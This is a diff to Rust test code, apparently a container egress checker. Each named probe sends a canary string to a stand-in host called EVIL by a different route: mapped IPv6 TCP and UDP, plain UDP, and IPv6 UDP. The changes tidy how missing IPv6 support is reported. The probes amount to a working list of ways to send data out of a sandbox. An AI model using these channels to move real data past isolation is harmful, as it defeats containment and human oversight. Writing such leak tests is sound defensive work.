@@ -1,7 +1,7 @@
 //! Packets by every way that the kernel has for an ordinary program. What needs privileges stands in [`super::raw`].
 
-use std::io::IoSlice;
-use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4, UdpSocket};
+use std::io::{self, IoSlice};
+use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV4, TcpStream, UdpSocket};
 use std::os::fd::AsRawFd;
 use std::process::{Command, Stdio};
 use std::thread;
@@ -39,7 +39,9 @@ pub(super) const CODE: &[(&str, Run)] = &[
     }),
     ("ip-tcp-mapped", |c| {
         let mapped: SocketAddr = (target::EVIL.to_ipv6_mapped(), TCP).into();
-        six(send::tcp(mapped, c.canary.as_bytes()))
+        let stream = six(TcpStream::connect_timeout(&mapped, send::CONNECT))?;
+        stream.set_read_timeout(Some(send::ANSWER))?;
+        send::talk(stream, c.canary.as_bytes())
     }),
     ("ip-udp", |c| send::udp((target::EVIL, HIGH), c.canary.as_bytes())),
     ("ip-udp-connected", |c| {
@@ -50,10 +52,8 @@ pub(super) const CODE: &[(&str, Run)] = &[
     }),
     ("ip-udp-many", many),
     ("ip-udp-mapped", |c| {
-        let socket = six(UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)).map_err(Failed::from))?;
-        six(socket
-            .send_to(c.canary.as_bytes(), (target::EVIL.to_ipv6_mapped(), HIGH))
-            .map_err(Failed::from))?;
+        let socket = six(UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)))?;
+        six(socket.send_to(c.canary.as_bytes(), (target::EVIL.to_ipv6_mapped(), HIGH)))?;
         Ok("sent".to_owned())
     }),
     ("ip-udp-fragments", |c| {
@@ -110,13 +110,10 @@ pub(super) const CODE: &[(&str, Run)] = &[
         Ok("left behind".to_owned())
     }),
     ("ip6-udp", |c| {
-        let socket = six(UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)).map_err(Failed::from))?;
-        let to = SocketAddr::from((IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)), HIGH));
-        match socket.send_to(c.canary.as_bytes(), to) {
-            Ok(_) => Ok("sent".to_owned()),
-            Err(error) if error.raw_os_error() == Some(nix::libc::ENETUNREACH) => no_six(),
-            Err(error) => six(Err(error.into())),
-        }
+        let socket = six(UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0)))?;
+        let to = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1);
+        six(socket.send_to(c.canary.as_bytes(), (to, HIGH)))?;
+        Ok("sent".to_owned())
     }),
     ("ip-other-uid", |c| send::udp((target::EVIL, HIGH), c.canary.as_bytes())),
     ("ip-root-tcp", |c| send::tcp((target::EVIL, TCP), c.canary.as_bytes())),
@@ -185,18 +182,15 @@ fn opened(family: AddressFamily, kind: SocketType, protocol: Option<u32>) -> Res
     socket(family, kind, protocol).map(|_| "it is open".to_owned())
 }
 
-/// A kernel without IPv6 has no socket of it.
-fn six<T>(ended: Result<T, Failed>) -> Result<T, Failed> {
-    match ended {
-        Err(Failed::Refused(said)) if said.contains("not supported") || said.contains("Cannot assign") => {
-            Err(Failed::Impossible(said))
+/// A container without IPv6 has no socket of it, or no way for it.
+fn six<T>(ended: io::Result<T>) -> Result<T, Failed> {
+    use nix::libc::{EADDRNOTAVAIL, EAFNOSUPPORT, ENETUNREACH};
+    ended.map_err(|error| match error.raw_os_error() {
+        Some(EADDRNOTAVAIL | EAFNOSUPPORT | ENETUNREACH) => {
+            Failed::Impossible(format!("this container has no IPv6: {error}"))
         }
-        other => other,
-    }
-}
-
-fn no_six<T>() -> Result<T, Failed> {
-    Err(Failed::Impossible("this container's network has no IPv6".to_owned()))
+        _ => error.into(),
+    })
 }
 
 /// A protocol's number as a type of its own.
